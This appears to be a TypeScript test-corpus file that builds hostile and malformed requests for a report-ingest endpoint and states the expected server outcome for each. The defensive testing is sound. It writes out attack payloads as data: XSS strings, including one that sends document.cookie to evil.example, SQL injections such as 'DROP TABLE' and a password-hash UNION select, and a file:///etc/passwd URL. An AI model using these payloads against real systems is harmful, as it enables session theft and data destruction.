/**
 * Hostile and broken requests to the ingest endpoint, modelled on what open report endpoints
 * receive in the wild: XSS and scheme tricks in links, SQL and template injection, parser bombs,
 * wrong content types, broken encodings, oversized fields. Each entry says what must happen.
 */
import { LIMITS } from '../../../contract/report.js';
import { FIXTURE_ORIGIN, validReport } from '../../helpers/reports.js';

/** What the server must do with an entry. Nothing may ever be a 5xx. */
export type Expectation =
  /** A 4xx answer; nothing stored. */
  | 'rejected'
  /** 201, and the listed fields come back from the database exactly as sent. */
  | 'stored'
  /** A 2xx answer that looks accepted, and nothing stored (the honeypot). */
  | 'honeypot'
  /** Either is defensible; only the absence of a 5xx is asserted. */
  | 'no-5xx';

/** The stored report fields a verbatim check compares, by their wire names. */
export type VerbatimField = 'exact' | 'prefix' | 'suffix' | 'suggestion' | 'comment' | 'title';

/** One request of the corpus, built for a given site key. */
export interface CorpusEntry {
  readonly name: string;
  readonly expect: Expectation;
  /** The report id to look up for `stored` and `honeypot` entries. */
  readonly id?: string;
  readonly body: string | Uint8Array<ArrayBuffer>;
  /** Content-Type to send; null sends none. Default `application/json`. */
  readonly contentType?: string | null;
  readonly headers?: Readonly<Record<string, string>>;
  /** For `stored`: field → the exact value that must come back. */
  readonly verbatim?: Partial<Record<VerbatimField, string>>;
}

type Report = Record<string, unknown>;

const XSS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  "<svg/onload=alert('xss')>",
  '<a href="javascript:alert(1)">click</a>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '</textarea><script>fetch("//evil.example/"+document.cookie)</script>',
  '<style>@import "//evil.example/x.css"</style>',
  '{{constructor.constructor("alert(1)")()}}',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
];

const SQL_INJECTION = [
  "' OR '1'='1",
  "'; DROP TABLE reports; --",
  "1'; UPDATE reports SET status='spam' WHERE '1'='1",
  "\\'; SELECT pg_sleep(10); --",
  '$$; DROP TABLE sites; $$',
  "' UNION SELECT password_hash FROM users --",
  "E'\\x27 OR 1=1",
];

const TEMPLATE_INJECTION = [
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the literal text
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{{=7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the literal text
  '[[${7*7}]]',
  '@(7*7)',
  '{7*7}',
];

/**
 * Text that is harmless to store and must come back unchanged (already NFC, no control characters);
 * also thrown at the editor routes' bodies and paths.
 */
export const HOSTILE_TEXT = [
  ...XSS,
  ...SQL_INJECTION,
  ...TEMPLATE_INJECTION,
  'Ünïcödé ✓ 日本語 عربى עברית 😀 👩🏽‍💻',
  '\u202Egnp.exe\u202C right-to-left override',
  'zero\u200Bwidth\u200Djoiner\uFEFFbom',
  'a\u0301 is not NFC but é is',
];

const BAD_URLS = [
  'javascript:alert(1)',
  'JavaScript:alert(document.domain)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'javascript://news.example/%0Aalert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  'vbscript:msgbox(1)',
  'ftp://news.example/x',
  'blob:https://news.example/uuid',
  '//evil.example/path',
  '/relative/path',
  'http://',
  'https://',
  'not a url',
  '',
  `https://news.example/${'a'.repeat(LIMITS.urlMax)}`,
];

const CONTROL_CHARACTERS = ['\u0000', '\u0007', '\u001b[31m', '\u007f', '\u0085', '\u009b'];

const WRONG_CONTENT_TYPES = [
  'application/xml',
  'text/html',
  'multipart/form-data; boundary=xyz',
  'application/x-www-form-urlencoded',
  'image/png',
  'application/octet-stream',
  'application/json-patch+json',
  'text/javascript',
];

/** Byte sequences that are not UTF-8 (RFC 3629): stray, overlong, surrogate, truncated. */
const INVALID_UTF8: readonly (readonly number[])[] = [
  [0xff],
  [0xc3, 0x28],
  [0xc0, 0xaf],
  [0xe0, 0x80, 0xaf],
  [0xed, 0xa0, 0x80],
  [0xf4, 0x90, 0x80, 0x80],
  [0xe2, 0x82],
];

function json(report: unknown): string {
  return JSON.stringify(report);
}

function bytes(...parts: (string | readonly number[])[]): Uint8Array<ArrayBuffer> {
  const encoder = new TextEncoder();
  const chunks = parts.map((p) => (typeof p === 'string' ? encoder.encode(p) : Uint8Array.from(p)));
  const out = new Uint8Array(chunks.reduce((n, c) => n + c.length, 0));
  let at = 0;
  for (const c of chunks) {
    out.set(c, at);
    at += c.length;
  }
  return out;
}

function nested(depth: number, open: string, close: string, inner = '1'): string {
  return open.repeat(depth) + inner + close.repeat(depth);
}

/** The whole corpus for a site key. Every call makes fresh report ids. */
export function corpus(siteKey: string): CorpusEntry[] {
  const entries: CorpusEntry[] = [];
  const base = (n: number, overrides: Report = {}): Report => ({ ...validReport(siteKey, n), ...overrides });
  const reject = (name: string, body: string | Uint8Array<ArrayBuffer>, extra: Partial<CorpusEntry> = {}) =>
    entries.push({ name, expect: 'rejected', body, ...extra });
  let n = 0;

  // Hostile text in every free-text field: valid reports, stored as sent.
  // Sent as typed; what comes back is the NFC form (docs/contract.md), identical for all but one entry.
  for (const text of HOSTILE_TEXT) {
    const nfc = text.normalize('NFC');
    for (const field of ['exact', 'prefix', 'suffix', 'suggestion', 'comment', 'title'] as const) {
      const report = base(n++);
      if (field === 'exact' || field === 'prefix' || field === 'suffix') {
        report.quote = { ...(report.quote as Report), [field]: text };
      } else {
        report[field] = text;
      }
      entries.push({
        name: `${field} holding ${JSON.stringify(text).slice(0, 40)}`,
        expect: 'stored',
        id: String(report.id),
        body: json(report),
        verbatim: { [field]: nfc },
      });
    }
  }
  // A URL carrying markup is still an https URL; it is stored (maybe re-encoded), never run.
  for (const text of XSS.slice(0, 3)) {
    const report = base(n++, { url: `${FIXTURE_ORIGIN}/search?q=${text}#${text}` });
    entries.push({ name: `url with markup ${text.slice(0, 20)}`, expect: 'no-5xx', body: json(report) });
  }

  for (const url of BAD_URLS) reject(`url ${JSON.stringify(url.slice(0, 40))}`, json(base(n++, { url })));

  // Injection in the fields the server looks things up by.
  for (const payload of SQL_INJECTION) {
    reject(`site key ${payload}`, json(base(n++, { site: payload })));
    reject(`id ${payload}`, json(base(n++, { id: payload })));
    reject(`kind ${payload}`, json(base(n++, { kind: payload })));
    // Pages declare odd languages ("English", "en_US"): the tag is free text, stored or refused safely.
    entries.push({ name: `lang ${payload}`, expect: 'no-5xx', body: json(base(n++, { lang: payload })) });
  }
  for (const payload of TEMPLATE_INJECTION) reject(`site key ${payload}`, json(base(n++, { site: payload })));

  for (const c of CONTROL_CHARACTERS) {
    const name = JSON.stringify(c);
    reject(
      `control character ${name} in quote.exact`,
      json(base(n++, { quote: { exact: `a${c}b`, prefix: '', suffix: '' } })),
    );
    reject(
      `control character ${name} in quote.prefix`,
      json(base(n++, { quote: { exact: 'ab', prefix: c, suffix: '' } })),
    );
    reject(`control character ${name} in comment`, json(base(n++, { comment: `x${c}` })));
    reject(`control character ${name} in suggestion`, json(base(n++, { suggestion: `x${c}` })));
    reject(`control character ${name} in title`, json(base(n++, { title: `x${c}` })));
    reject(`control character ${name} in url`, json(base(n++, { url: `${FIXTURE_ORIGIN}/a${c}b` })));
  }

  // Malformed JSON.
  const malformed = [
    '',
    '{',
    '{"site":',
    "{'site': 'x'}",
    '{"site": "x",}',
    '{"a": NaN}',
    '{"a": undefined}',
    '/* comment */ {}',
    '{"a": 1} {"b": 2}',
    '\u0000',
    'null',
    'true',
    '42',
    '"a string"',
    '[]',
    '{}',
    '{"quote": {"exact": "x"}}',
  ];
  for (const body of malformed) reject(`malformed body ${JSON.stringify(body)}`, body);

  // Parser bombs: deep nesting within the body limit (must parse or fail cleanly), and far past it.
  reject('8,000 nested arrays as the body', nested(8000, '[', ']'));
  reject('3,000 nested objects as the body', nested(3000, '{"a":', '}'));
  reject(
    '8,000 nested arrays as quote',
    json(base(n++)).replace(/"quote":\{[^}]*\}/, `"quote":${nested(8000, '[', ']')}`),
  );
  reject('100,000 nested arrays (over the body limit)', nested(100_000, '[', ']'));
  reject('100,000 nested objects (over the body limit)', nested(100_000, '{"a":', '}'));

  for (const contentType of WRONG_CONTENT_TYPES)
    reject(`content type ${contentType}`, json(base(n++)), { contentType });
  // As bytes: a string body would make the Request constructor add text/plain by itself.
  reject('no content type', bytes(json(base(n++))), { contentType: null });

  // Broken encodings: raw invalid UTF-8 inside a string, and escaped lone surrogates (valid JSON,
  // invalid Unicode: PostgreSQL cannot store them, so they must be refused rather than mangled).
  for (const seq of INVALID_UTF8) {
    const [head, tail] = json(base(n++, { comment: 'SPLIT' })).split('SPLIT');
    reject(`invalid UTF-8 ${seq.map((b) => b.toString(16)).join(' ')}`, bytes(head ?? '', seq, tail ?? ''));
  }
  for (const escaped of ['\\ud800', '\\udfff', '\\udc00\\ud800', 'a\\ud83d', '\\ud83d b']) {
    const [head, tail] = json(base(n++)).split('"recieved');
    reject(`lone surrogate ${escaped} in quote.exact`, `${head}"${escaped}recieved${tail}`);
    const [h2, t2] = json(base(n++, { comment: 'SPLIT' })).split('SPLIT');
    reject(`lone surrogate ${escaped} in comment`, `${h2}${escaped}${t2}`);
  }
  {
    const page = n++;
    const report = base(page);
    const [head, tail] = json(report).split('"recieved');
    entries.push({
      name: 'an escaped surrogate pair (a real emoji)',
      expect: 'stored',
      id: String(report.id),
      body: `${head}"\\ud83d\\ude00recieved${tail}`,
      verbatim: { exact: `😀recieved ${page}` },
    });
  }

  // Oversized fields, each one over its cap.
  const quote = (q: Report): Report => ({ exact: 'recieved', prefix: '', suffix: '', ...q });
  reject(
    'quote.exact over the hard cap',
    json(base(n++, { quote: quote({ exact: 'x'.repeat(LIMITS.exactMax + 1) }) })),
  );
  reject(
    'quote.exact over the site default',
    json(base(n++, { quote: quote({ exact: 'x'.repeat(LIMITS.exactDefault + 1) }) })),
  );
  reject('quote.exact empty', json(base(n++, { quote: quote({ exact: '' }) })));
  reject(
    'quote.prefix over the cap',
    json(base(n++, { quote: quote({ prefix: 'x'.repeat(LIMITS.contextMax + 1) }) })),
  );
  reject(
    'quote.suffix over the cap',
    json(base(n++, { quote: quote({ suffix: 'x'.repeat(LIMITS.contextMax + 1) }) })),
  );
  reject('suggestion over the cap', json(base(n++, { suggestion: 'x'.repeat(LIMITS.suggestionMax + 1) })));
  reject('comment over the cap', json(base(n++, { comment: 'x'.repeat(LIMITS.commentMax + 1) })));
  reject('title over the cap', json(base(n++, { title: 'x'.repeat(LIMITS.titleMax + 1) })));
  reject('lang over the cap', json(base(n++, { lang: 'x'.repeat(LIMITS.langMax + 1) })));
  reject('site key over the cap', json(base(n++, { site: 'k'.repeat(LIMITS.siteKeyMax + 1) })));
  reject('body over 16 KiB', json(base(n++, { padding: 'x'.repeat(LIMITS.bodyBytes) })));
  reject('1 MiB body', 'x'.repeat(1024 * 1024));

  // Wrong types and numbers PostgreSQL would choke on.
  const wrongTypes: Report[] = [
    { quote: 'recieved' },
    { quote: null },
    { quote: { exact: 42, prefix: '', suffix: '' } },
    { quote: { exact: ['a'], prefix: '', suffix: '' } },
    { id: 42 },
    { id: 'not-a-uuid' },
    { id: '00000000-0000-0000-0000-000000000000x' },
    { site: 42 },
    { site: { $ne: null } },
    { url: ['https://news.example/a'] },
    { kind: 'evil' },
    { kind: 'TYPO ' },
    { position: { start: 2 ** 31, end: 2 ** 31 + 8 } },
    { position: { start: 1e308, end: 1e308 } },
    { position: { start: -1, end: 5 } },
    { position: { start: 1.5, end: 3 } },
    { position: { start: 9, end: 3 } },
    { position: { start: '1', end: '3' } },
    { position: [1, 3] },
    { hp: 42 },
    { suggestion: { toString: 'x' } },
  ];
  for (const overrides of wrongTypes)
    reject(`wrong type ${JSON.stringify(overrides).slice(0, 60)}`, json(base(n++, overrides)));
  entries.push({
    name: 'a number too large for JSON doubles',
    expect: 'rejected',
    body: json(base(n++)).replace('"start":1234', '"start":1e400'),
  });

  // Prototype pollution keys are plain data.
  entries.push({
    name: '__proto__ and constructor keys',
    expect: 'no-5xx',
    body: json(base(n++)).replace(
      /^\{/,
      '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},',
    ),
  });

  // The honeypot: looks accepted, stores nothing.
  {
    const report = base(n++, { hp: 'https://spam.example' });
    entries.push({
      name: 'a filled honeypot',
      expect: 'honeypot',
      id: String(report.id),
      body: json(report),
    });
  }

  // Header abuse that reaches the application (the HTTP parser's own limits are tested over HTTP).
  const headerCases: [string, Record<string, string>, Expectation][] = [
    ['Origin of another site', { Origin: 'https://news.example.evil.example' }, 'rejected'],
    // sendBeacon under a no-referrer policy sends `null`: then the page's own origin is what counts.
    ['Origin "null"', { Origin: 'null' }, 'no-5xx'],
    ['an 8 KiB Origin', { Origin: `https://${'a'.repeat(8192)}.example` }, 'rejected'],
    ['an X-Forwarded-For of garbage', { 'X-Forwarded-For': '<script>, not-an-ip, 999.1.1.1' }, 'no-5xx'],
    [
      'an X-Forwarded-For of 1,000 hops',
      { 'X-Forwarded-For': Array.from({ length: 1000 }, (_, i) => `10.0.${i >> 8}.${i & 255}`).join(', ') },
      'no-5xx',
    ],
    ['an 8 KiB Content-Type', { 'Content-Type': `application/json; x=${'a'.repeat(8192)}` }, 'no-5xx'],
  ];
  for (const [name, headers, expect] of headerCases)
    entries.push({ name, expect, body: json(base(n++)), headers });

  return entries;
}
